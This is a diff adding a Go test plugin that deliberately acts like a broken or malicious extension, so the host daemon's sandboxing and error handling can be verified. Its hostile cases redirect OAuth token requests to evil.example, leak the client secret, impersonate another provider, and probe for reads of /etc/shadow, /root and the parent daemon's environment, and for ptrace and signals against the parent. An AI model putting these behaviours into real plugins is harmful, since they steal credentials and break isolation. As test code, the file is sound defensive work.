@@ -1,0 +1,109 @@
+// Command hostile is a plugin that does what its name says, for tests: what a
+// broken or evil one would.
+package main
+
+import (
+	"context"
+	"errors"
+	"fmt"
+	"net"
+	"os"
+	"os/exec"
+	"strings"
+	"syscall"
+	"time"
+
+	"github.com/invectd/invectd/plugins/sdk"
+)
+
+func main() {
+	provider := sdk.Provider{Definition: sdk.Definition{
+		ID: "hostile", Name: "Hostile", TokenURL: "https://token.example/token", AuthorizationURL: "https://token.example/authorize",
+	}}
+	version := "1"
+	switch os.Args[0] {
+	case "exits":
+		os.Exit(3)
+	case "silent":
+		select {}
+	case "garbage":
+		fmt.Println("hello")
+		select {}
+	case "huge":
+		version = strings.Repeat("x", 300<<20)
+	case "floods":
+		go func() {
+			for {
+				fmt.Fprintln(os.Stderr, strings.Repeat("y", 10_000))
+			}
+		}()
+	case "dies":
+		provider.TokenRequest = func(context.Context, *sdk.TokenRequest) error { os.Exit(4); return nil }
+	case "hangs":
+		provider.TokenRequest = func(context.Context, *sdk.TokenRequest) error { select {} }
+	case "moves":
+		provider.TokenRequest = func(_ context.Context, r *sdk.TokenRequest) error {
+			r.HTTP.URL = "https://evil.example/token"
+			return nil
+		}
+	case "tells":
+		provider.TokenRequest = func(_ context.Context, r *sdk.TokenRequest) error {
+			fmt.Fprintln(os.Stderr, "the secret is", r.Client.Secret)
+			return errors.New("the secret is " + r.Client.Secret)
+		}
+	case "probe":
+		version = strings.Join(probe(), "; ")
+	case "takes":
+		provider.Definition.ID = "google"
+	case "plain":
+		provider.Definition.TokenURL = "http://token.example/token"
+	}
+	sdk.Serve(sdk.Plugin{Version: version, Providers: []sdk.Provider{provider}})
+}
+
+// probe tries what a plugin must not be able to do, and returns what it could.
+func probe() (could []string) {
+	try := func(what string, err error) {
+		if err == nil {
+			could = append(could, what)
+		}
+	}
+	try("fork", exec.Command("/bin/true").Run())
+	_, err := net.DialTimeout("tcp", "127.0.0.1:1", time.Second)
+	if errors.Is(err, syscall.ECONNREFUSED) {
+		err = nil // it got as far as the network
+	}
+	try("connect over TCP", err)
+	socket, err := syscall.Socket(syscall.AF_UNIX, syscall.SOCK_STREAM, 0)
+	if err == nil {
+		if err = syscall.Connect(socket, &syscall.SockaddrUnix{Name: "/nowhere"}); errors.Is(err, syscall.ENOENT) {
+			err = nil
+		}
+	}
+	try("connect to a Unix socket", err)
+	_, err = os.ReadDir("/root")
+	try("read /root", err)
+	_, err = os.ReadFile("/etc/shadow")
+	try("read /etc/shadow", err)
+	try("write to /tmp", os.WriteFile("/tmp/hostile-was-here", nil, 0o600))
+	try("write beside its folder", os.WriteFile("../hostile-was-here", nil, 0o600))
+	try("signal the daemon", syscall.Kill(os.Getppid(), 0))
+	try("trace the daemon", syscall.PtraceAttach(os.Getppid()))
+	_, err = os.ReadFile(fmt.Sprintf("/proc/%d/environ", os.Getppid()))
+	try("read the daemon's environment", err)
+	if syscall.Getuid() == 0 {
+		could = append(could, "be root")
+	}
+	for _, entry := range os.Environ() {
+		if name, _, _ := strings.Cut(entry, "="); strings.HasPrefix(name, "INVECT_") || name == "CANARY" {
+			could = append(could, "see "+name)
+		}
+	}
+	for fd := 4; fd < 64; fd++ { // 3 is its own image
+		target, err := os.Readlink(fmt.Sprintf("/proc/self/fd/%d", fd))
+		if err == nil && strings.HasPrefix(target, "/") && target != "/dev/null" && !strings.HasPrefix(target, "/sys/fs/cgroup/") { // Go reads its share of the machine there
+			could = append(could, "see "+target)
+		}
+	}
+	return could
+}
